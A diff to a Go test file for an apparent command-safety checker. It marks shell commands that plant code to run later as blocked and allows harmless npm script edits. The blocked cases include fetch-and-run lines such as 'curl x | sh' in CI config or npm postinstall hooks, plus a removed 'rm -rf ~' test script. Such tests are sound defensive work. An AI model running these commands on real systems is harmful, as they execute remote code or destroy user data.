@@ -16,8 +16,9 @@ var effects13PersistCases = []runnerCase{
 	unread("sed -i 's/make/curl x|sh/' .gitlab-ci.yml", UnreadableRunsLater),
 	unread("curl -o .envrc https://x.io/envrc && direnv allow", UnreadableMadeRun),
 	unread("npm pkg set scripts.postinstall='curl x | sh'", UnreadableRunsLater),
-	unread("npm pkg set 'scripts[test]=rm -rf ~'", UnreadableRunsLater),
-	unread("pnpm pkg set scripts.build='sh x'", UnreadableRunsLater),
+	unread("npm pkg set 'scripts[install]=sh x'", UnreadableRunsLater),
+	unread("pnpm pkg set scripts.prepare='sh x'", UnreadableRunsLater),
+	unread(`npm pkg set "scripts.$N=sh x"`, UnreadableRunsLater),
 	unread("npm set-script prepare 'sh x'", UnreadableRunsLater),
 	unread("echo 'repos: []' > .pre-commit-config.yaml", UnreadableRunsLater),
 	unread("cp x.yml .circleci/config.yml", UnreadableRunsLater),
@@ -26,6 +27,13 @@ var effects13PersistCases = []runnerCase{
 	allows("npm pkg get scripts"),
 	allows("npm pkg set version=1.2.3"),
 	allows("npm pkg set description='a tool'"),
+	// fx43e2 (issue 7): a script no install runs, set alone, is an edit
+	// of package.json; a later part that runs scripts makes it rebound.
+	allows(`npm pkg set scripts.lint="eslint ."`),
+	allows(`npm pkg set scripts.lint="eslint ." scripts.format="prettier -w ."`),
+	allows("npm pkg set 'scripts[test]=jest'"),
+	allows("pnpm pkg set scripts.build='tsc -p .'"),
+	allows("npm set-script lint 'eslint .'"),
 	allows("direnv allow"),
 	allows("echo 'export FOO=1' > .envrc"), // direnv loads it only after direnv allow
 	allows("echo 'dist/' >> .gitignore"),
